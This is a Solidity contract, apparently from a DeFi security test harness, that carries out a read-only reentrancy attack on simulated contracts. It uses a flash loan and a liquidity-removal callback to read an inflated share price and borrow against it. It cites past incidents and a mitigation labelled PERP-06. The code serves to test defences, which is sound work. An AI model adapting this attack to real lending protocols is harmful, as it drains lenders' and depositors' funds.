// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {Attack} from "./Attack.sol";
import {MakerLender} from "./worlds/MakerLender.sol";
import {IMoved} from "./worlds/Token.sol";
import {World} from "./worlds/World.sol";

/// A lender asks the exchange what makers' shares are worth. The exchange pays before it writes when liquidity leaves:
/// in the middle the shares are gone and the money counts as there, so that every other share looks dear. He makes the
/// market with a flash loan, leaves it, and borrows while he is paid. Mechanism of Market.xyz 2022, dForce and
/// Sentiment 2023. Stopped by the view, which reverts while the lock is held (PERP-06).
contract ReadOnlyReentrancy is Attack, IMoved {
    uint256 private constant PLEDGE = 40_000 * USD;
    uint256 private constant OWN = 9_000 * USD;
    MakerLender private immutable venue;
    bool private _waits;
    /// What the exchange said in the middle.
    uint256 public seen;

    constructor(World world_) Attack(world_) {
        venue = world_.makerLender();
        usd.approve(address(venue), type(uint256).max);
    }

    function naiveLoss() external pure override returns (uint256) {
        return 345_000 * USD;
    }

    /// What a maker earns while it lasts, at most the funding of the honest side in an hour and four blocks.
    function bound() external pure override returns (uint256) {
        return 20_000 * USD * 3 / 100 * (1 hours + 48) / 1 days;
    }

    function capital() external pure override returns (uint256, uint256) {
        return (PLEDGE + OWN + 1_000 * USD, 0);
    }

    function steps() external pure override returns (uint256) {
        return 4;
    }

    function waitBefore(uint256 step) external pure override returns (uint256) {
        return step == 2 ? 1 hours : 12;
    }

    /// And what he could take from the lender.
    function wealth() public view override returns (uint256) {
        return super.wealth() + venue.equityOf(address(this));
    }

    function loan() public view virtual returns (uint256) {
        return 12_000_000 * USD;
    }

    function onMoved(address, address, uint256) external {
        if (msg.sender != address(usd) || !_waits) return;
        _waits = false;
        // All that the lender holds of shares is his.
        try perp.makerValue(address(venue), MARKET) returns (uint256 value) {
            seen = value;
            venue.borrow(Math.min(value * 8 / 10, usd.balanceOf(address(venue))));
        } catch {}
    }

    function _step(uint256 step) internal override {
        if (step == 0) {
            venue.supply(PLEDGE);
            perp.deposit(OWN);
            perp.addLiquidity(MARKET, OWN);
        }
        if (step == 1) lender.flash(usd, loan(), "");
        if (seen > 0 || step < 2) return;
        // Where a maker has to stay, what he brought himself; where nothing is told, what anyone may borrow.
        if (step == 2) _remove(perp.sharesOf(address(this), MARKET));
        else venue.borrow(PLEDGE * 7 / 10);
    }

    function _flashed(bytes calldata) internal override {
        perp.deposit(loan());
        _remove(perp.addLiquidity(MARKET, loan()));
    }

    function _remove(uint256 shares) private {
        usd.wantCalls(true);
        _waits = true;
        perp.removeLiquidity(MARKET, shares);
        usd.wantCalls(false);
    }
}
